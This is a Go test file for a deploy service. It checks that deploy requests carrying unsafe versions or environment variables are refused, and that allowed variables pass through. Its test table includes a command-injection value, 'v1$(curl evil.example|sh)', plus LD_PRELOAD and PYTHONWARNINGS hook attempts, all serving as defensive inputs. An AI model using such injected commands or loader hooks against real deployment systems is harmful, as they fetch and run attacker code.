package deploy

import (
	"context"
	"errors"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gennaker/gennaker/internal/engine"
	"github.com/gennaker/gennaker/internal/model"
	"github.com/gennaker/gennaker/internal/store/sqlite"
)

// startRecorder records the executions a service would start.
type startRecorder struct {
	params []map[string]string
}

func (r *startRecorder) StartPipeline(_ context.Context, pl model.Pipeline, params map[string]string, _ model.Trigger, _ engine.Guard) (*model.Execution, error) {
	r.params = append(r.params, params)
	return &model.Execution{ID: "exec-1", Pipeline: pl.Name, Application: pl.Application, Params: params}, nil
}

// newService is a deploy service on a real SQLite store holding the
// application checkout (which lets a deploy set LOG_LEVEL) and the
// environment staging.
func newService(t *testing.T) (*Service, *startRecorder) {
	t.Helper()
	st, err := sqlite.Open(t.Context(), filepath.Join(t.TempDir(), "gennaker.db"), nil)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	_, err = st.ConfigApply(t.Context(), model.Config{
		Applications: []model.Application{{Name: "checkout", Instances: 1, Run: model.RunSpec{Command: "./checkout"}, DeployEnv: []string{"LOG_LEVEL"}}},
		Environments: []model.Environment{{Name: "staging", Target: model.TargetSpec{Kind: model.TargetLocal}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	rec := &startRecorder{}
	return &Service{Store: st, Engine: rec}, rec
}

func TestDeployRefuses(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name string
		req  Request
		want []string
	}{
		{name: "a version that is a shell command", req: Request{Version: "v1$(curl evil.example|sh)"},
			want: []string{"--version: invalid version", "letters, digits"}},
		{name: "a version with a space", req: Request{Version: "v1 --debug"}, want: []string{`invalid version: "v1 --debug"`}},
		{name: "a loader hook", req: Request{Version: "v1", Env: map[string]string{"LD_PRELOAD": "/tmp/x.so"}},
			want: []string{"a deploy may never set LD_PRELOAD"}},
		{name: "an interpreter hook as a parameter", req: Request{Version: "v1", Params: map[string]string{"env.PYTHONWARNINGS": "ignore::x.y"}},
			want: []string{"never set PYTHONWARNINGS"}},
		{name: "an unlisted name", req: Request{Version: "v1", Env: map[string]string{"LOG_LEVEL": "debug", "FEATURE_X": "on"}},
			want: []string{"a deploy of checkout may not set FEATURE_X", "add FEATURE_X to spec.deployEnv of Application checkout"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s, rec := newService(t)
			tc.req.Application, tc.req.Environment = "checkout", "staging"
			_, err := s.Deploy(t.Context(), tc.req)
			if !errors.Is(err, engine.ErrBadRequest) {
				t.Fatalf("err = %v, want a bad request", err)
			}
			for _, w := range tc.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q does not say %q", err, w)
				}
			}
			if len(rec.params) > 0 {
				t.Errorf("a refused deploy started an execution with %v", rec.params)
			}
		})
	}
}

func TestDeployPassesListedVariables(t *testing.T) {
	t.Parallel()
	s, rec := newService(t)
	_, err := s.Deploy(t.Context(), Request{Application: "checkout", Environment: "staging", Version: "1.4.2+build.7", Env: map[string]string{"LOG_LEVEL": "debug"}})
	if err != nil {
		t.Fatal(err)
	}
	if len(rec.params) != 1 || rec.params[0]["version"] != "1.4.2+build.7" || rec.params[0]["env.LOG_LEVEL"] != "debug" {
		t.Errorf("started with %v, want version 1.4.2+build.7 and env.LOG_LEVEL=debug", rec.params)
	}
}
